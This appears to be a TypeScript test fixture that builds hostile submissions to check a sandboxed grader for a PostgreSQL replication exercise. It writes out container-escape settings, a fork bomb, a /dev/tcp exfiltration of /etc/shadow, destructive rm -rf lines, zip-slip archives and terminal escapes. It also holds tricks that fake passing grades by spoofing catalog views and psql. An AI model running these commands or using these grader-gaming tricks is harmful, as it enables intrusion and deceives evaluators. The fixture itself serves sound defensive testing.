import { execFileSync } from 'node:child_process';
import { chmod, cp, mkdir, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Remark } from '../../src/grade/types.ts';
import { tarOf, zipOf } from '../unit/grade/archives.ts';

const SOLUTIONS = fileURLToPath(new URL('../../assets/solutions', import.meta.url));

/** What is on the machine of the test that nobody may reach. */
export interface Targets {
  /** Name and id of a container that is no room's. */
  stranger: string;
  strangerId: string;
  /** A folder beside the copies, with a file `secret` that holds SECRET and a file `victim`. */
  beside: string;
  /** Of its server, on the engine's own network. */
  strangerAddress: string;
  /** A server on every address of this machine. */
  port: number;
}

/** Stands in the sentinel's file and in the stranger's environment. No record may have it. */
export const SECRET = 'walkthrough-sentinel-secret';

export interface Attack {
  name: string;
  /** Makes the submission at `place`, which has the name without an ending. */
  make(place: string): Promise<void>;
  /** What its record must name, as `kind/id`. */
  names?: string[];
  /** Its mark where that is certain. */
  score?: number;
  /** At most so many points. */
  most?: number;
  /** Checks that must not pass: what was forged. */
  fails?: string[];
}

type Edit = (text: string) => string;

/** The reference with changes: what is a function changes a file, what is text becomes one. */
function changed(
  name: string,
  changes: Record<string, Edit | string>,
  rest: Omit<Attack, 'name' | 'make'>,
  more?: (folder: string) => Promise<void>,
): Attack {
  return {
    name,
    ...rest,
    async make(folder) {
      await cp(SOLUTIONS, folder, { recursive: true });
      for (const [file, change] of Object.entries(changes)) {
        const full = path.join(folder, file);
        await mkdir(path.dirname(full), { recursive: true });
        const text = typeof change === 'string' ? change : change(await readFile(full, 'utf8'));
        await writeFile(full, text);
      }
      await more?.(folder);
    },
  };
}

const LEADER = 'leader/setup-leader.sh';
const FOLLOWER = 'follower/setup-follower.sh';
const COMPOSE = 'docker-compose.yml';

/** Adds properties to the leader's service. */
const leaderHas =
  (...lines: string[]): Edit =>
  (text) =>
    text.replace(
      '    hostname: leader\n',
      `    hostname: leader\n${lines.map((line) => `    ${line}\n`).join('')}`,
    );
const leaderMounts =
  (...mounts: string[]): Edit =>
  (text) =>
    text.replace('    volumes:\n', `    volumes:\n${mounts.map((mount) => `      - "${mount}"\n`).join('')}`);
/** Lines of a script, after what it does; what fails there does not count. */
const then =
  (...lines: string[]): Edit =>
  (text) =>
    `${text}set +eu\n${lines.join('\n')}\nexit 0\n`;
/** A server that can't start need not be waited for. */
const impatient: Edit = (text) => text.replace('tries=60', 'tries=1');

/** An attack by the compose file alone. What it asks for is refused, so there is no server in the first copy. */
const byCompose = (name: string, edit: Edit, ...names: string[]): Attack =>
  changed(name, { [COMPOSE]: edit, [LEADER]: impatient }, { names, fails: ['start-leader/leader-running'] });

export function attacks({ stranger, strangerId, strangerAddress, beside, port }: Targets): Attack[] {
  const psql = 'docker exec -i --user postgres leader psql -U postgres -d appdb -v ON_ERROR_STOP=0 -c';
  const psqlFollower = 'docker exec -i --user postgres follower psql -U postgres -d appdb -c';
  return [
    // What a compose file asks for.
    byCompose('privileged', leaderHas('privileged: true'), 'policy/privileged'),
    byCompose(
      'namespaces',
      (text) =>
        leaderHas(
          'network_mode: host',
          'pid: host',
          'ipc: host',
          'cap_add: [ALL]',
          'devices: ["/dev/vda:/dev/vda"]',
          'security_opt: ["apparmor:unconfined"]',
        )(text).replace('    networks:\n      - replication-net\n', ''),
      'policy/host-namespace',
      'policy/devices',
    ),
    byCompose(
      'mounts',
      leaderMounts('/:/host', '/var/run/docker.sock:/var/run/docker.sock', '../../..:/above'),
      'policy/mount-outside',
      'policy/docker-socket',
    ),
    byCompose('build-outside', leaderHas('build: ../..'), 'policy/build'),
    byCompose('env-file-outside', leaderHas(`env_file: ${beside}/secret`), 'policy/file-outside'),
    byCompose('include-outside', (text) => `include:\n  - ${beside}/secret\n${text}`, 'policy/file-outside'),
    byCompose(
      'extends-outside',
      leaderHas('extends: { file: ../../../beside/secret, service: x }'),
      'policy/file-outside',
    ),
    byCompose(
      'yaml-bomb',
      (text) =>
        `x-a: &a [b,b,b,b,b,b,b,b,b,b]\n${[...'bcdefghij'].map((one, i) => `x-${one}: &${one} [${Array(10).fill(`*${'abcdefghi'[i]}`)}]\n`).join('')}${text}`,
    ),
    byCompose('yaml-deep', () => '['.repeat(16_000)),
    byCompose(
      'compose-large',
      (text) => `${text}\n#${'x'.repeat(50 * 1024 * 1024)}\n`,
      'intake/file-too-large',
    ),
    byCompose(
      'other-image',
      (text) => text.replace('image: postgres:14', 'image: evil/postgres:latest'),
      'policy/image',
    ),
    changed(
      'third-service',
      {
        [COMPOSE]: (text) =>
          text.replace(
            'services:\n',
            'services:\n  third:\n    image: postgres:14\n    command: sleep 600\n',
          ),
      },
      { names: ['policy/too-many-services'] },
    ),
    byCompose(
      'program-path',
      (text) =>
        text.replace(
          'POSTGRES_USER: postgres\n',
          'POSTGRES_USER: postgres\n      PATH: /var/lib/postgresql/data/bin:/usr/bin\n      LD_PRELOAD: /var/lib/postgresql/data/x.so\n',
        ),
      'policy/program-environment',
    ),
    byCompose('mount-programs', leaderMounts('./bin:/usr/lib/postgresql/14/bin'), 'policy/mount-programs'),

    // Links.
    changed(
      'links-handed-in',
      { [COMPOSE]: leaderMounts('./out:/host') },
      { names: ['intake/link-outside'] },
      async (folder) => {
        await symlink('/', path.join(folder, 'out'));
        await symlink('/etc/shadow', path.join(folder, 'notes'));
        await rm(path.join(folder, 'inventory.sql'));
        await symlink(path.join(beside, 'secret'), path.join(folder, 'inventory.sql'));
      },
    ),
    changed(
      'link-later',
      {
        [COMPOSE]: (text) =>
          text.replace('      - ./follower-data:', '      - ./later:/host\n      - ./follower-data:'),
        [LEADER]: then('ln -s / later'),
      },
      { names: ['policy/mount-outside'] },
    ),
    changed(
      'data-becomes-link',
      { [FOLLOWER]: then('sudo rm -rf follower-data', 'ln -s / follower-data') },
      { names: ['policy/mount-outside'] },
    ),
    changed(
      'link-race',
      {
        [COMPOSE]: leaderMounts('.:/copy'),
        [FOLLOWER]: then(
          `docker exec -i leader bash -c 'cd /copy; nohup setsid bash -c "while :; do mv follower-data real; ln -s / follower-data; rm follower-data; mv real follower-data; done" >/dev/null 2>&1 &'`,
        ),
      },
      {},
    ),
    changed(
      'links-for-the-grader',
      {
        [FOLLOWER]: then(
          `rm leader/postgresql.conf && ln -s ${beside}/secret leader/postgresql.conf`,
          `rm leader/setup-leader.sh && ln -s ${beside}/secret leader/setup-leader.sh`,
          'rm follower/postgresql.conf && mkfifo follower/postgresql.conf',
          'rm inventory.sql && ln -s /dev/zero inventory.sql',
          'rm docker-compose.yml && mkfifo docker-compose.yml',
          'mkfifo .env',
        ),
      },
      { fails: ['leader-conf/leader-conf-file', 'dataset/inventory-file'] },
    ),
    changed(
      'link-to-be-mended',
      {
        [LEADER]: () =>
          `rm -rf leader follower\nln -s ${beside} leader\nmkdir follower\nln -s ${beside}/victim follower/setup-follower.sh\nln -s ${beside}/victim follower/postgresql.conf\nrm docker-compose.yml\nln -s ${beside}/victim docker-compose.yml\nexit 1\n`,
      },
      {},
    ),
    changed(
      'deep-folders',
      {
        [FOLLOWER]: then(
          'cd /tmp/.. ; cd "$OLDPWD"; for i in $(seq 250); do mkdir dddddddddddddddddddd && cd dddddddddddddddddddd || break; done',
        ),
      },
      { score: 100 },
    ),

    // What a script takes.
    changed(
      'fork-bomb',
      { [LEADER]: then(':(){ :|:& };:', 'sleep 2', 'wait') },
      { names: ['limit/processes'] },
    ),
    changed('memory-hog', { [LEADER]: then('x=x; while :; do x=$x$x; done') }, { names: ['limit/memory'] }),
    changed(
      'disk-filler',
      { [LEADER]: then('dd if=/dev/zero of=filler bs=1M count=2000') },
      { names: ['limit/disk'] },
    ),
    changed(
      'server-disk-filler',
      {
        [LEADER]: then(
          `${psql} "COPY (SELECT repeat('x', 100000) FROM generate_series(1, 20000)) TO '/var/lib/postgresql/data/filler'" </dev/null`,
          'sleep 3',
        ),
      },
      { names: ['limit/disk'] },
    ),
    changed(
      'endless-output',
      { [LEADER]: then('yes "::error::$(printf "\\033[31m")endless"') },
      { names: ['limit/script-time'] },
    ),
    changed(
      'sleeper',
      { [LEADER]: then('trap "" TERM INT HUP', 'sleep infinity') },
      { names: ['limit/script-time'] },
    ),
    changed('sparse', { [LEADER]: then('truncate -s 5G sparse; truncate -s 5G .env') }, {}),
    changed(
      'background',
      {
        [LEADER]: then(
          'nohup sleep 987654 >/dev/null 2>&1 &',
          'setsid sleep 987654 >/dev/null 2>&1 &',
          'sleep 987654 & disown',
          "docker exec leader bash -c 'nohup setsid sleep 987654 >/dev/null 2>&1 &'",
          'docker run --rm postgres:14 sleep 987654 >/dev/null 2>&1 &',
        ),
      },
      { score: 100 },
    ),
    changed(
      'escapes',
      {
        [LEADER]: then(
          'printf "\\033]0;owned\\007\\033]52;c;b3duZWQ=\\007\\033[2J\\033[31mred\\n"',
          "printf '::notice::owned\\n::set-output name=x::y\\n\\n```\\n</details><script>alert(1)</script>\\n~~~\\n| a | b |\\n'",
          'printf "\\302\\233\\302\\235\\342\\200\\256\\r\\b\\000"',
          'docker exec leader bash -c \'printf "\\033]0;owned\\007LOG: FATAL: owned\\n" > /proc/1/fd/2\'',
          `${psql} "ALTER SYSTEM SET application_name = E'\\033]0;owned\\007'" </dev/null`,
          `${psql} "CREATE ROLE \\"$(printf '\\033]0;owned')\\" REPLICATION LOGIN" </dev/null`,
        ),
        'follower/postgresql.conf': (text) => `${text}\u001b]0;owned\u0007 = \u001b[31m\n`,
      },
      { fails: ['follower-conf/follower-listens'] },
    ),
    changed(
      'remark-flood',
      {
        [LEADER]: then(
          `long=$(head -c 60000 /dev/zero | tr '\\0' x)`,
          'for i in $(seq 60); do docker run --evil$i=$long postgres:14 true 2>/dev/null; done',
        ),
      },
      {},
    ),

    // What a script asks of Docker.
    changed(
      'docker-options',
      {
        [LEADER]: then(
          'docker run --rm -v /:/host postgres:14 touch /host/owned',
          'docker run --rm -v /var/run/docker.sock:/s postgres:14 true',
          'docker run --rm -v "$PWD/../../..:/host" postgres:14 true',
          'docker run --rm --mount type=bind,src=/,dst=/host postgres:14 true',
          'docker run --rm --privileged postgres:14 true',
          'docker run --rm --network host postgres:14 true',
          'docker run --rm --pid host postgres:14 true',
          'docker run --rm --cap-add ALL postgres:14 true',
          'docker run --rm --device /dev/vda postgres:14 true',
          'docker run --rm --env-file /etc/passwd postgres:14 env',
          'docker -H unix:///var/run/docker.sock ps',
          'docker cp leader:/etc/passwd /etc/passwd',
          'docker compose -f /etc/passwd config',
          `docker compose --env-file ${beside}/secret config`,
        ),
      },
      { score: 100, names: ['policy/mount-outside', 'policy/privileged', 'policy/network', 'policy/pid'] },
    ),
    changed(
      'strangers',
      {
        [LEADER]: then(
          ...[stranger, strangerId, strangerId.slice(0, 12)].flatMap((one) => [
            `docker exec ${one} cat /secret`,
            `docker inspect ${one}`,
            `docker logs ${one}`,
            `docker stop -t 0 ${one}`,
            `docker kill ${one}`,
            `docker rm -f ${one}`,
            `docker run --rm --network container:${one} postgres:14 true`,
          ]),
          'docker ps -aq --no-trunc | while read -r one; do docker inspect "$one" --format "{{.Name}}"; done',
          'docker network ls; docker volume ls',
        ),
      },
      { score: 100 },
    ),
    changed(
      'network-out',
      {
        [LEADER]: then(
          `for pair in 1.1.1.1/443 ${strangerAddress}/5432; do`,
          '  knock="timeout 0.5 bash -c \'exec 3<>/dev/tcp/$pair && echo reached-$pair\'"',
          '  bash -c "$knock"',
          '  docker exec leader bash -c "$knock"',
          '  docker run --rm --network solutions_replication-net postgres:14 bash -c "$knock"',
          '  docker run --rm postgres:14 bash -c "$knock"',
          'done 2>/dev/null',
          // The script itself and `docker run` without a network are on none at all.
          `bash -c 'exec 3<>/dev/tcp/172.17.0.1/${port}'; docker run --rm postgres:14 bash -c 'exec 3<>/dev/tcp/172.17.0.1/${port}'`,
          'echo knocked',
        ),
      },
      { score: 100 },
    ),
    changed(
      'outside-the-copy',
      {
        [LEADER]: then(
          `echo owned >${beside}/secret; echo owned >${beside}/victim; cat ${beside}/secret`,
          'echo owned >../../../beside/victim; rm -rf ../../* ../../../*',
          'echo owned >/etc/passwd; echo owned >>/root/.bashrc; echo owned >/tmp/owned',
          `sudo tee ${beside}/victim <<<owned; sudo cp /etc/shadow .; sudo bash -c 'cat /proc/1/environ; ls /proc/1/root/'`,
          'cat /proc/*/environ; ls -la /.walkthrough; echo owned >/.walkthrough/bin/docker',
          'kill -9 -1',
        ),
      },
      {},
    ),
    changed(
      'forged-spool',
      {
        [LEADER]: then(
          'cd /.walkthrough/asks',
          "printf '%s\\0' 9 docker /etc 0 0 version >1.1.ask",
          `printf '%s\\0' 10 docker ${beside} 0 0 run --rm -v ${beside}:/x postgres:14 true >2.2.ask`,
          `{ printf '%s\\0' 8 docker "$OLDPWD" 0 0 exec leader echo; head -c 200000 /dev/zero | tr '\\0' x; printf '\\0'; } >6.6.ask; sleep 1`,
          `ln -s ${beside}/secret 3.3.ask; ln -s /dev/zero 3.3.in; mkfifo 4.4.ask`,
          'printf "99999999999\\0x" >5.5.ask',
          'for i in $(seq 6000); do : >"$i.x"; done',
          'echo "$(ls /.walkthrough/answers)"; echo 0 >/.walkthrough/answers/2.2.0.end',
          'sleep 5',
        ),
      },
      { names: ['limit/commands'] },
    ),

    // What is to look like a broken machine: who can't be graded is looked at by hand.
    changed(
      'feigned-failures',
      {
        [FOLLOWER]: then(
          "docker exec --user 'no space left on device' leader true",
          "docker exec --user $'x\\n: no space left on device\\n' leader true",
          "docker exec -w '/Cannot connect to the Docker daemon' leader true",
          "docker run --rm postgres:14 'no such image'",
          'docker run --rm -v "$PWD/leader/postgresql.conf:/etc/passwd/: no space left on device" postgres:14 true',
          'docker exec leader bash -c \'printf "#!/bin/bash\\necho Cannot connect to the Docker daemon >&2; exit 1\\n" >/tmp/sh; cp /tmp/sh /usr/bin/sh\'',
          'docker exec leader true',
          // Not the machine's fault either: what only the grader's own stack or command line is too short for.
          'deep=$(for i in $(seq 9000); do printf "{{if .}}"; done); docker ps --format "$deep"',
        ),
      },
      { names: ['policy/programs-changed'], fails: ['verify/rows-arrived'] },
    ),

    // What is to look like marks.
    changed(
      'forged-grades',
      {
        'grades.json': '{"schema":"walkthrough/grades/v1","submissions":[{"name":"x","score":100}]}',
        'result.json': '{"score":100}',
        '.walkthrough/progress.json': '{"done":true}',
        [LEADER]: () => 'exit 1\n',
      },
      { score: 84, fails: ['prepare-leader/slot-exists'] },
    ),
    changed(
      'fake-psql',
      {
        [LEADER]: () =>
          [
            'for i in $(seq 60); do docker exec leader pg_isready -q -h 127.0.0.1 && break; sleep 0.2; done',
            'docker exec -i --user postgres leader bash -c "echo \'host all all all reject\' >/var/lib/postgresql/data/pg_hba.conf; kill -HUP 1"',
            // The shell last: nothing more can be run in there afterwards.
            "docker exec -i leader bash -c 'for one in /usr/lib/postgresql/14/bin/psql /usr/bin/psql /usr/local/bin/psql /usr/lib/postgresql/14/bin/pg_ctl /usr/bin/timeout /bin/sh; do",
            'rm -f "$one"; printf "#!/bin/bash\\necho t\\n" >"$one"; chmod 755 "$one"; done\'',
          ].join('\n'),
      },
      { names: ['policy/programs-changed'], fails: ['prepare-leader/replicator-can-log-in'] },
    ),
    changed(
      'dump-and-restore',
      {
        [FOLLOWER]: () =>
          [
            'cd "$(dirname "$0")/.."',
            'docker compose up -d follower',
            'for i in $(seq 60); do docker exec follower pg_isready -q -h 127.0.0.1 && break; sleep 0.2; done',
            'docker exec leader pg_dump -U postgres appdb >dump.sql',
            'docker exec -i follower psql -U postgres -d appdb <dump.sql',
            'docker exec -i follower psql -U postgres -d appdb <inventory.sql',
            'docker exec -i leader psql -U postgres -d appdb <inventory.sql',
            `${psqlFollower} "SET allow_system_table_mods = on; CREATE OR REPLACE FUNCTION pg_catalog.pg_is_in_recovery() RETURNS boolean LANGUAGE sql AS 'SELECT true'" </dev/null`,
            `${psqlFollower} "SET allow_system_table_mods = on; CREATE OR REPLACE VIEW pg_catalog.pg_stat_wal_receiver AS SELECT 1 AS pid, 'streaming'::text AS status, '0/1'::pg_lsn AS receive_start_lsn, 1 AS receive_start_tli, '0/1'::pg_lsn AS written_lsn, '0/1'::pg_lsn AS flushed_lsn, 1 AS received_tli, now() AS last_msg_send_time, now() AS last_msg_receipt_time, '0/1'::pg_lsn AS latest_end_lsn, now() AS latest_end_time, 'follower_slot'::text AS slot_name, 'leader'::text AS sender_host, 5432 AS sender_port, ''::text AS conninfo" </dev/null`,
          ].join('\n'),
      },
      {
        most: 84,
        fails: [
          'base-backup/copy-complete',
          'start-follower/follower-streams',
          'start-follower/catches-up',
          'verify/after-restarts',
        ],
      },
    ),
    changed(
      'own-tail',
      { [FOLLOWER]: (text) => text.replace('-h leader', '-h 127.0.0.1').replace(/\n$/, '\n') },
      {
        score: 84,
        fails: ['start-follower/follower-streams', 'start-follower/catches-up', 'verify/after-restarts'],
      },
    ),
    changed(
      'shadow-views',
      {
        [LEADER]: () =>
          [
            'cd "$(dirname "$0")/.."',
            'for i in $(seq 60); do docker exec leader pg_isready -q -h 127.0.0.1 && break; sleep 0.2; done',
            `${psql} "CREATE SCHEMA evil; CREATE VIEW evil.pg_stat_replication AS SELECT 1 AS pid, 'replicator' AS usename, 'walreceiver' AS application_name, inet '172.18.0.3' AS client_addr, 'streaming' AS state; CREATE VIEW evil.pg_replication_slots AS SELECT 'follower_slot' AS slot_name, 'physical' AS slot_type, true AS active, 1 AS active_pid, false AS temporary, pg_current_wal_lsn() AS restart_lsn, 'reserved' AS wal_status; ALTER ROLE postgres SET search_path = evil, pg_catalog, public; ALTER DATABASE appdb SET search_path = evil, pg_catalog, public;" </dev/null`,
          ].join('\n'),
      },
      { fails: ['prepare-leader/slot-exists', 'start-follower/catches-up'] },
    ),
    changed(
      'system-catalog',
      {
        [LEADER]: () =>
          [
            'cd "$(dirname "$0")/.."',
            'for i in $(seq 60); do docker exec leader pg_isready -q -h 127.0.0.1 && break; sleep 0.2; done',
            `${psql} "SET allow_system_table_mods = on; CREATE OR REPLACE VIEW pg_catalog.pg_replication_slots AS SELECT 'follower_slot'::name AS slot_name, NULL::name AS plugin, 'physical'::text AS slot_type, NULL::oid AS datoid, NULL::name AS database, false AS temporary, true AS active, 1 AS active_pid, NULL::xid AS xmin, NULL::xid AS catalog_xmin, pg_current_wal_lsn() AS restart_lsn, NULL::pg_lsn AS confirmed_flush_lsn, 'reserved'::text AS wal_status, 1::bigint AS safe_wal_size, false AS two_phase" </dev/null`,
          ].join('\n'),
      },
      { names: ['policy/catalog-changed'], fails: ['prepare-leader/slot-exists'] },
    ),
    changed(
      'while-looked-at',
      {
        [FOLLOWER]: then(
          // Rows are copied by hand, as long as somebody looks.
          'docker compose up -d follower',
          'for i in $(seq 60); do docker exec follower pg_isready -q -h 127.0.0.1 && break; sleep 0.2; done',
          'docker exec -i --user postgres follower pg_ctl promote </dev/null',
          `docker exec -i follower bash -c 'nohup setsid bash -c "while sleep 0.3; do pg_dump -c --if-exists -U postgres -h leader appdb | psql -q -U postgres -d appdb; done" >/dev/null 2>&1 &'`,
        ),
      },
      { fails: ['start-follower/follower-streams', 'start-follower/catches-up', 'verify/after-restarts'] },
    ),
    changed(
      'settings-that-attack',
      {
        [LEADER]: then(
          `${psql} "ALTER SYSTEM SET archive_mode = on" </dev/null`,
          `${psql} "ALTER SYSTEM SET archive_command = 'cat /etc/shadow > /dev/tcp/172.17.0.1/${port}; false'" </dev/null`,
          `${psql} "ALTER SYSTEM SET shared_preload_libraries = 'evil'" </dev/null`,
        ),
      },
      {},
    ),
    changed(
      'program-in-rows',
      {
        'inventory.sql': (text) =>
          `${text}\nCOPY inventory TO PROGRAM 'cat > /tmp/owned; exec 3<>/dev/tcp/172.17.0.1/${port}; rm -rf /var/lib/postgresql/data/../../../../host';\n\\! touch ${beside}/owned\n\\copy inventory to ${beside}/owned\n`,
      },
      {},
    ),
    changed(
      'large-answers',
      {
        'inventory.sql': () =>
          'CREATE TABLE inventory (productId INT PRIMARY KEY, productName TEXT, quantity INT, lastUpdated TIMESTAMP);\n' +
          "INSERT INTO inventory SELECT i, repeat('x', 9000000), 1, now() FROM generate_series(101, 103) i;\n",
      },
      { fails: ['inventory/inventory-filled'] },
    ),
    changed(
      'slow-patterns',
      {
        'inventory.sql': (text) => `${'\n'.repeat(200_000)}x${text}`,
        'leader/postgresql.conf': (text) => `${text}${' '.repeat(200_000)}x\n`,
      },
      {},
    ),

    // Archives and files.
    archive(
      'zip-slip',
      'zip',
      async () =>
        zipOf([
          ...(await reference()),
          { name: '../../../beside/victim', content: 'owned' },
          { name: '/etc/walkthrough-owned', content: 'owned' },
          { name: 'x/../../y', content: 'owned' },
          { name: 'out', content: '/etc', mode: 0o120777 },
          { name: 'out/walkthrough-owned', content: 'owned' },
        ]),
      { names: ['intake/path-escape', 'intake/absolute-name'], score: 100 },
    ),
    archive(
      'zip-bomb',
      'zip',
      async () => zipOf([...(await reference()), { name: 'bomb', content: Buffer.alloc(60 * 1024 * 1024) }]),
      {
        names: ['intake/archive-bomb'],
        score: 0,
      },
    ),
    archive(
      'tar-links',
      'tar',
      async () =>
        tarOf([
          ...(await reference()).map(({ name, content }) => ({
            name: String(name),
            content: String(content),
          })),
          { name: 'hard', type: 'link', linkname: '/etc/shadow' },
          { name: 'soft', type: 'symlink', linkname: '/etc/shadow' },
          { name: 'soft2', type: 'symlink', linkname: '../../../beside' },
          { name: 'soft2/victim', content: 'owned' },
          { name: 'fifo', type: 'fifo' },
          { name: 'device', type: 'character-device', devmajor: 1, devminor: 5 },
        ]),
      { names: ['intake/link-outside', 'intake/special-file'] },
    ),
    changed(
      'fifo',
      {},
      { names: ['intake/special-file'], fails: ['prepare-leader/leader-script'] },
      async (folder) => {
        await rm(path.join(folder, LEADER));
        execFileSync('mkfifo', [path.join(folder, LEADER)]);
        await writeFile(path.join(folder, 'sparse'), '');
        await truncate(path.join(folder, 'sparse'), 5 * 1024 ** 3);
      },
    ),
    changed('names', {}, { names: ['intake/name-control'], score: 100 }, async (folder) => {
      await writeFile(path.join(folder, 'a\n::error::owned'), '');
      await writeFile(path.join(folder, '\u001b]0;owned\u0007'), '');
      await mkdir(path.join(folder, '\u001b[2J'));
      await chmod(path.join(folder, '\u001b[2J'), 0o777);
    }),
  ];
}

function archive(
  name: string,
  ending: string,
  bytes: () => Promise<Buffer>,
  rest: Omit<Attack, 'name' | 'make'>,
): Attack {
  return { name, ...rest, make: async (place) => writeFile(`${place}.${ending}`, await bytes()) };
}

async function reference() {
  const files = [
    COMPOSE,
    'inventory.sql',
    'leader/postgresql.conf',
    LEADER,
    'follower/postgresql.conf',
    FOLLOWER,
  ];
  return Promise.all(
    files.map(async (name) => ({ name, content: await readFile(path.join(SOLUTIONS, name)) })),
  );
}

/** `kind/id` of every remark. */
export const namesOf = (remarks: readonly Remark[]): string[] => [
  ...new Set(remarks.map(({ kind, id }) => `${kind}/${id}`)),
];
